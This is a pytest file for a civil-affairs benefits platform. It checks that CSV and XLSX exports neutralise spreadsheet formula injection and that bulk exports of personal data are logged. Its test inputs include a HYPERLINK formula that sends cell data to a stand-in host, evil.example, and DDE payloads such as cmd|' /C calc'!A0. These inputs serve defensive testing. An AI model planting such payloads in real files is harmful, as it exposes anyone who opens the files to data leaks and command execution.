"""Every file the platform hands out goes through one writer: formulas neutralised, rows streamed, and
bulk personal data logged (who, when, which filter, how many rows)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from laoxiao.accounts.roles import Role
from laoxiao.benefits import services as benefits
from laoxiao.benefits.models import Programme
from laoxiao.core.exporting import csv_chunks, xlsx_chunks
from laoxiao.core.importing import import_batch_create
from laoxiao.core.models import Area, ExportLog, IdentifierReveal
from laoxiao.people.importing import PEOPLE_IMPORTER
from tests import factories
from tests.factories import good_row, people_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


def _sheet(response):
    assert response.status_code == 200, response
    return list(load_workbook(io.BytesIO(response.getvalue())).active.iter_rows())


def _is_inert(cell, text):
    """Shown as text with the apostrophe OWASP asks for: not a formula, not a number."""
    return cell.data_type == "s" and cell.value == "'" + text


def test_the_writer_neutralises_formula_prefixes_and_keeps_numbers_numbers():
    rows = [[text, -5, 2.5] for text in HOSTILE] + [["普通 = 文本", 0, None]]
    sheet = list(load_workbook(io.BytesIO(b"".join(xlsx_chunks(["名称", "数", "值"], rows, title="t")))).active)
    assert all(_is_inert(row[0], text) for row, text in zip(sheet[1:], HOSTILE, strict=False))
    assert sheet[1][1].value == -5 and sheet[1][1].data_type == "n" and sheet[1][2].value == 2.5
    assert sheet[-1][0].value == "普通 = 文本"
    read = list(csv.reader(io.StringIO(b"".join(csv_chunks(["名称", "数"], rows)).decode("utf-8-sig"))))
    assert [r[0] for r in read[1 : len(HOSTILE) + 1]] == ["'" + t for t in HOSTILE]
    assert read[1][1] == "-5"


def test_a_hostile_name_and_address_export_as_text_from_the_people_list(client, city_civil):
    factories.make_person(by=city_civil, name=HOSTILE[0][:50], address="@SUM(1+1)*cmd|' /C calc'!A0")
    client.force_login(city_civil)
    rows = _sheet(client.get("/people/export.xlsx"))
    header = [c.value for c in rows[0]]
    assert _is_inert(rows[1][0], HOSTILE[0][:50])
    assert _is_inert(rows[1][header.index("地址")], "@SUM(1+1)*cmd|' /C calc'!A0")


def test_a_hostile_facility_name_exports_as_text(client, city_civil):
    factories.make_facility(by=city_civil, name="+1+cmd|' /C calc'!A0")
    client.force_login(city_civil)
    rows = _sheet(client.get("/facilities/export.xlsx"))
    assert _is_inert(rows[1][0], "+1+cmd|' /C calc'!A0")


def test_the_rejected_rows_report_neutralises_and_reads_back_unchanged(client, xingqing_civil):
    hostile = good_row(level="很好")
    hostile[0] = "=1+2"
    batch = import_batch_create(
        by=xingqing_civil, importer=PEOPLE_IMPORTER, file_name="x.csv", content=people_csv([hostile])
    )
    client.force_login(xingqing_civil)
    response = client.get(f"/imports/people/{batch.pk}/errors/")
    content = response.getvalue()
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows())
    assert _is_inert(rows[1][1], "=1+2")
    # Corrected and uploaded again, the name is the one that was typed, without the apostrophe.
    again = import_batch_create(by=xingqing_civil, importer=PEOPLE_IMPORTER, file_name="x.xlsx", content=content)
    assert any(e["column"] == "能力等级" for e in again.errors)
    from laoxiao.core.tabular import read_rows

    assert next(read_rows("x.xlsx", content, PEOPLE_IMPORTER.columns))[1]["name"] == "=1+2"


@pytest.fixture
def paid_batch(areas):
    """An approved 高龄津贴 batch whose one beneficiary has a formula for a name."""
    benefits.programmes_sync()
    maker = factories.make_user(Role.CIVIL_AFFAIRS, factories.CITY)
    checker = factories.make_user(Role.CIVIL_AFFAIRS, factories.CITY)
    person = factories.make_person(by=maker, name="-1+1", age=85)
    factories.make_person(by=maker, name="王八十", age=88)
    batch = benefits.proactive_run(
        by=maker,
        programme=Programme.objects.get(code="advanced-age-allowance"),
        area=Area.objects.get(code=factories.CITY),
        period="2026-11",
    )
    for line in batch.payments.all():  # a line without a payee account is held back at approval
        benefits.payee_account_set(
            by=maker,
            beneficiary_type="person",
            beneficiary_id=line.beneficiary_id,
            area=line.area,
            kind="ss_card",
            number=f"6217{line.beneficiary_id:015d}",
        )
    benefits.batch_approve(by=checker, batch=batch)
    return batch, checker, person


def test_the_bank_file_neutralises_names_and_logs_each_person_revealed(client, paid_batch):
    batch, checker, person = paid_batch
    client.force_login(checker)
    response = client.get(f"/benefits/batches/{batch.pk}/payments.csv")
    assert response.streaming and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
    assert "'-1+1" in [r["姓名"] for r in rows] and all(len(r["证件号码"]) == 18 for r in rows)
    reveals = IdentifierReveal.objects.filter(user=checker, subject_type="person")
    assert sorted(reveals.values_list("subject_id", flat=True)) == sorted(
        batch.payments.values_list("beneficiary_id", flat=True)
    )
    assert reveals.get(subject_id=person.pk).subject_label == "-1+1"
    log = ExportLog.objects.get(user=checker)
    assert (log.rows, log.kind, log.filters) == (2, "发放文件", f"批次 {batch}")


def test_every_people_export_is_in_the_export_log_with_its_filter_and_row_count(client, city_civil):
    factories.make_person(by=city_civil, name="金凤人", area=factories.JINFENG_VILLAGE)
    factories.make_person(by=city_civil, name="兴庆人")
    client.force_login(city_civil)
    searched = factories.citizen_id()
    client.get("/people/export.xlsx", {"area": factories.JINFENG}).getvalue()
    client.get("/people/export.xlsx", {"q": searched}).getvalue()
    first, second = ExportLog.objects.order_by("id")
    assert (first.user, first.kind, first.rows, first.filters) == (city_civil, "人员", 1, "所属区划：金凤区")
    assert second.rows == 0 and searched not in second.filters  # an ID searched for is masked in the log


def test_the_export_log_page_is_for_a_citys_officers_and_pages(client, city_civil, xingqing_civil, settings):
    settings.LAOXIAO_PAGE_SIZE = 2
    client.force_login(xingqing_civil)
    for _ in range(3):
        client.get("/people/export.xlsx", {"sex": "2"}).getvalue()
    client.force_login(city_civil)
    assert 'href="/exports/"' in client.get("/people/").content.decode()
    page = client.get("/exports/")
    html = page.content.decode()
    assert page.status_code == 200 and "导出记录" in html and "性别：女" in html and "共 3 条记录" in html
    assert html.count("<tr><td>") == 2
    client.force_login(xingqing_civil)  # a district officer: no link, and the page is refused
    assert 'href="/exports/"' not in client.get("/people/").content.decode()
    assert client.get("/exports/").status_code == 403
